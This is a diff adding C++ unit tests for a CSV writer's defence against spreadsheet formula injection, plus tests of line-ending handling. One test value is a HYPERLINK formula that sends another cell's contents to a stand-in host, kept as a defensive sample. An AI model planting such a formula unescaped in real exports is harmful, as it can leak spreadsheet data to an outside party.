@@ -43,6 +43,59 @@ TEST(Csv, ReadsLineEndingsAByteOrderMarkAndSemicolonFilesAndSaysWhereAQuoteIsOpe
               "Line 2: a quoted cell is not closed.");
 }
 
+// A spreadsheet runs a cell that starts like a formula; the apostrophe makes it text, and only
+// an apostrophe this side added is taken off again.
+TEST(Csv, FormulaLikeCellsAreWrittenAsTextAndReadBackAsTheyWere) {
+    for (const auto& [cell, written] : std::initializer_list<std::pair<const char*, const char*>>{
+             {"=1+1", "'=1+1"},
+             {"+31 20", "'+31 20"},
+             {"-5", "'-5"},
+             {"@SUM(A1)", "'@SUM(A1)"},
+             {"\tx", "'\tx"},
+             {"\rx", "\"'\rx\""},
+             {"=HYPERLINK(\"http://x/?\"&A2,\"cam\")",
+              "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"cam\"\")\""},
+             {"'=x", "''=x"},
+             {"''-", "'''-"},
+             {"'abc", "'abc"},
+             {"'", "'"},
+             {"a=b", "a=b"},
+             {"", ""}}) {
+        const std::string record = CsvRecord({cell, "m"});
+        EXPECT_EQ(record, std::string(written) + ",m\r\n") << cell;
+        const auto read = ReadCsv(record);
+        ASSERT_TRUE(std::holds_alternative<std::vector<CsvRow>>(read)) << record;
+        EXPECT_EQ(std::get<std::vector<CsvRow>>(read).at(0).cells, (Cells{cell, "m"})) << record;
+    }
+    // As a spreadsheet saves it: every text quoted.
+    const auto saved = std::get<std::vector<CsvRow>>(ReadCsv("\"'=1+1\";\"''@\";\"'x\"\n"));
+    EXPECT_EQ(saved.at(0).cells, (Cells{"=1+1", "'@", "'x"}));
+}
+
+// CR (old Macintosh), LF and CRLF each end a line, in a quoted cell too, where the cell keeps
+// its line break as written.
+TEST(Csv, EveryLineEndCountsOnceAndLinesAreNumberedAsAnEditorShowsThem) {
+    const std::string file = "MAC,Host\r"
+                             "m1;x;y;z;w,h1\r"
+                             "m2,\"a\rb\"\r\n"
+                             "m3,\"c\r\nd\n\re\"\n"
+                             "\r"
+                             "m4,last";
+    const auto read = ReadCsv(file);
+    ASSERT_TRUE(std::holds_alternative<std::vector<CsvRow>>(read));
+    std::vector<std::pair<int, Cells>> lines;
+    for (const CsvRow& row : std::get<std::vector<CsvRow>>(read))
+        lines.emplace_back(row.line, row.cells);
+    EXPECT_EQ(lines, (std::vector<std::pair<int, Cells>>{{1, {"MAC", "Host"}},
+                                                         {2, {"m1;x;y;z;w", "h1"}},
+                                                         {3, {"m2", "a\rb"}},
+                                                         {5, {"m3", "c\r\nd\n\re"}},
+                                                         {9, {""}},
+                                                         {10, {"m4", "last"}}}));
+    EXPECT_EQ(std::get<std::string>(ReadCsv("a,b\r\"x\r\ny\rz\"\r\"open\r")),
+              "Line 5: a quoted cell is not closed.");
+}
+
 TEST(Latin1Text, CellsBecomeUtf8AndOnlyLatin1ComesBack) {
     EXPECT_EQ(Latin1ToUtf8("caf\xE9 \xFF\x7F"), "caf\xC3\xA9 \xC3\xBF\x7F");
     EXPECT_EQ(Utf8ToLatin1("caf\xC3\xA9 \xC3\xBF\xC2\x80"), "caf\xE9 \xFF\x80");
